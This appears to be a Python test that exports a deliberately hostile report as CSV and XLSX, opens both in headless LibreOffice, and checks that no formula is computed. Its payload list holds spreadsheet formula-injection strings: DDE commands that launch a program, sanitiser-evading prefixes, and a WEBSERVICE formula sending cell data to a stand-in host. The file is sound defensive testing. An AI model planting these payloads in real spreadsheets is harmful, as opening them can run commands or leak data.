"""Reports opened by a real spreadsheet program: no cell that came from outside is computed.

LibreOffice opens the file, computes what it takes for formulas, and writes what it then shows; that must be the text we wrote.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import NamedTuple

from tests.test_exports import hostile_report
from tests.test_report import SETTINGS
from workbench.exports import EXPORTERS

COMPUTED = 41 * 271  # what a formula of ours would show; it stands in no text
FORMULAS = (
    "=41*271",
    "+41*271",
    "-41*-271",
    "@SUM(41*271)",
    "\t=41*271",
    "\r=41*271",
    "\n=41*271",
    "＝41*271",
    '=HYPERLINK("http://evil.example","x")&41*271',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    '";=41*271',
    "',=41*271",
    " =41*271",
    "\ufeff=41*271",
)


class Opened(NamedTuple):
    """What LibreOffice made of the files. computed: the cells in which something was computed or that became an error."""

    cells: int
    computed: tuple[str, ...]


def program() -> str | None:
    """LibreOffice's command, where it is installed."""
    return shutil.which("soffice") or shutil.which("libreoffice")


def opened(command: str, folder: Path) -> Opened:
    """The hostile report as csv and xlsx, opened and written out as csv again."""
    reports = [hostile_report(text.strip("\t\r\n") if not text.strip() else text) for text in FORMULAS]
    cells, computed = 0, []
    for form in ("csv", "xlsx"):
        given = folder / f"report.{form}"
        given.write_bytes(EXPORTERS[form].write(reports, SETTINGS))
        for row in _shown(command, given, folder / form):
            cells += len(row)
            computed += [f"{form}: {cell[:80]!r}" for cell in row if _is_computed(cell)]
    return Opened(cells, tuple(computed))


def _is_computed(cell: str) -> bool:
    return str(COMPUTED) in cell.replace(",", "") or cell.startswith(("#", "Err:"))


def _shown(command: str, given: Path, into: Path) -> Sequence[Sequence[str]]:
    """The cells of every sheet as the program shows them."""
    convert = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    profile = f"-env:UserInstallation={(into / 'profile').as_uri()}"
    arguments = [command, profile, "--headless", "--convert-to", convert, "--outdir", str(into), str(given)]
    subprocess.run(arguments, check=True, capture_output=True, timeout=180)
    written = sorted(into.glob("*.csv"))
    assert written, f"{command} wrote nothing for {given.name}"
    return [row for path in written for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8", errors="replace")))]
